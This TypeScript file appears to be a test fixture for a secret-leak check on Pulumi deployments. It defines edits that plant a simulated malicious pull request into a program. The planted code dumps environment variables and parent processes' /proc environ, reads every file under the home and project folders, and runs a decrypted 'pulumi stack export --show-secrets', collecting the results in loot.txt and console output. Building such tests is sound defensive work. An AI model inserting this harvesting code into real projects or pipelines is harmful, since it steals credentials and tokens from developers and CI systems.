import { readDeployedState } from "../../cli/deployed-state.ts";
import { secretValues } from "../../demo/counts.ts";
import type { Ledger } from "../../model/ledger.ts";

/** What the edited program does at its end: everything that code of a pull request could think of. */
const TAKE = `
import { execFileSync } from "node:child_process";
import { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
const take = (what: string, text: unknown): void => {
  appendFileSync("loot.txt", "\\n== " + what + "\\n" + String(text));
  if (String(text).length < 20_000) console.log(what, text);
};
// A machine has more files than a test has time.
let left = 20_000_000;
writeFileSync("loot.txt", "");
export const grab = (name: string, output: any): void => void output.apply((v: unknown) => take(name, typeof v === "string" ? v : JSON.stringify(v)));
const walk = (folder: string): void => {
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    try {
      if (entry.isDirectory() && !["node_modules", "plugins"].includes(entry.name)) walk(path);
      else if (entry.isFile() && entry.name !== "loot.txt" && (left -= statSync(path).size) > 0) take("file " + path, readFileSync(path, "utf8"));
    } catch { /* not readable */ }
  }
};
export function grabTheRest(): void {
  take("env", JSON.stringify(process.env));
  for (let pid = process.pid; pid > 1; pid = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + pid + "/status", "utf8"))?.[1] ?? 0)) {
    for (const file of ["environ", "cmdline"]) try { take(file + " of " + pid, readFileSync("/proc/" + pid + "/" + file, "latin1")); } catch { /* not ours */ }
  }
  for (const folder of [(process.env["PULUMI_BACKEND_URL"] ?? "").replace("file://", ""), process.env["HOME"], process.cwd(), process.env["PULUMI_HOME"]])
    try { if (folder && !folder.startsWith("http")) walk(folder); } catch { /* not there */ }
  for (const flags of [[], ["--show-secrets"]])
    try { take(flags.length > 0 ? "decrypted export" : "export", execFileSync("pulumi", ["stack", "export", "--stack", STACK, ...flags], { encoding: "utf8", maxBuffer: 1 << 28 })); } catch (error) { take("refused", error); }
  take("end", "");
}
`;
const STACK = `const STACK = process.env["PULUMI_BACKEND_URL"]?.startsWith("file:") ? "organization/sophia-secrets/production" : "production";\n`;

/** Edits for \`World.edited\`. */
export const HOSTILE: readonly (readonly [file: string, text: string, replacement: string])[] = [
  ["resources/settled.ts", "import type", `${TAKE}${STACK}import type`],
  ["resources/held-values.ts", "    // `input`, never", `    grab(row.name, stash.input); grab(row.name, stash.output);\n    // \`input\`, never`],
  ["resources/held-values.ts", "import { settled }", "import { grab, settled }"],
  ["resources/generated-values.ts", "      value: new RandomBytes(", "      value: taken("],
  ["resources/generated-values.ts", "hooks: safeguards.inside() }).base64,", "hooks: safeguards.inside() }),"],
  ["resources/generated-values.ts", `return new RandomBytes(KEY_NAME`, "return taken(KEY_NAME"],
  ["resources/generated-values.ts", "hooks: safeguards.inside() }).base64;", "hooks: safeguards.inside() });"],
  ["resources/generated-values.ts", "/** Values of one", `const taken = (...args: ConstructorParameters<typeof RandomBytes>): Output<string> => { const made = new RandomBytes(...args); grab(args[0], made.base64); grab(args[0], made.hex); return made.base64; };\n/** Values of one`],
  ["resources/generated-values.ts", "import { isKnown, settled }", "import { grab, isKnown, settled }"],
  ["index.ts", "  declaredEverything();\n  return", "  declaredEverything();\n  grabTheRest();\n  return"],
  ["index.ts", "import { readState }", `import { grabTheRest } from "./resources/settled.ts";\nimport { readState }`],
];

/**
 * Everything real that a stack's state and its surroundings hold: values (also the first of each, which the state keeps), fingerprints,
 * their key's name, ciphertexts and tokens, by name.
 */
export function realValues(decrypted: string, encrypted: string, environment: Readonly<Record<string, string>>): Map<string, string> {
  const state = readDeployedState(decrypted);
  const found = secretValues(state);
  for (const { name, outputs } of state.resources) {
    for (const key of ["hex", "output"]) {
      const value = outputs[key];
      // Short ones are settings, and in any text.
      if (typeof value === "string" && value.length >= 16 && !/^https?:/.test(value) && ![...found.values()].includes(value)) found.set(`${name} ${key}`, value);
    }
  }
  const ledger = state.ledger as Ledger;
  for (const [name, { fingerprint, keyId }] of [...Object.entries(ledger.entries), ...Object.entries(ledger.delivered ?? {})]) {
    found.set(`key id`, keyId);
    if (![...found.values()].includes(fingerprint)) found.set(`${name} fingerprint`, fingerprint);
  }
  const ciphertexts = [...encrypted.matchAll(/"ciphertext": ?"([^"]+)"/g)].map(([, text = ""]) => text);
  for (const [index, text] of [...new Set(ciphertexts)].slice(0, 60).entries()) found.set(`ciphertext ${index}`, text);
  for (const name of ["GITHUB_TOKEN", "PULUMI_ACCESS_TOKEN"]) found.set(name, environment[name] ?? "");
  // An example value may be so short that it is in any text, and the scanner leaves it out.
  return new Map([...found].filter(([, value]) => value.length >= 8));
}
